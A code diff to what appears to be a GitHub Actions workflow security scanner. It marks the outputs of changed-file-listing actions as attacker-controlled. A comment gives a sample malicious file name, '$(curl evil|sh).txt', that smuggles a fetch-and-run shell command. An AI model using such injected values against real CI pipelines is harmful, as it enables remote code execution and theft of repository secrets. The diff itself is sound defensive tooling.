@@ -96,6 +96,15 @@ def tainted_refs(found: Found, ctx: dict) -> Iterator[tuple[str, str, Span]]:
                     yield ref.text, origin, span
 
 
+# Actions whose outputs list the files a change touches: file names are chosen by whoever
+# wrote the change (`$(curl evil|sh).txt` is a valid file name).
+FILE_LIST_ACTIONS = frozenset({
+    "tj-actions/changed-files", "tj-actions/verify-changed-files", "dorny/paths-filter",
+    "jitterbit/get-changed-files", "ana06/get-changed-files", "trilom/file-changes-action",
+    "lots0logs/gh-action-get-changed-files", "masesgroup/retrieve-changed-files",
+})
+
+
 def tainted_output(ctx: dict, step_id: str, name: str) -> str | None:
     """The attacker-controlled context an earlier step wrote to output `name`, if any:
     `echo "name=${{ github.event.issue.title }}" >> "$GITHUB_OUTPUT"` (or via a tainted
@@ -105,6 +114,9 @@ def tainted_output(ctx: dict, step_id: str, name: str) -> str | None:
     for step in ctx.get("steps") or []:
         if not isinstance(step, dict) or str(step.get("id", "")) != step_id:
             continue
+        uses = parse_uses(step.get("uses"))
+        if uses is not None and f"{uses.owner}/{uses.repo}".lower() in FILE_LIST_ACTIONS:
+            return f"names of changed files via steps.{step_id}.outputs.{name}"
         run = step.get("run")
         if not isinstance(run, str) or "GITHUB_OUTPUT" not in run:
             return None
@@ -144,7 +156,7 @@ def pattern_spans(source: Source | None, container: Any, key: Any,
     return [(m, span) for m in pattern.finditer(value)]
 
 
-_LINE = re.compile(r"[^\n]+")
+_LINE = re.compile(r"\S[^\n]*")
 
 
 def line_spans(source: Source | None, container: Any, key: Any) -> list[tuple[str, Span | None]]:
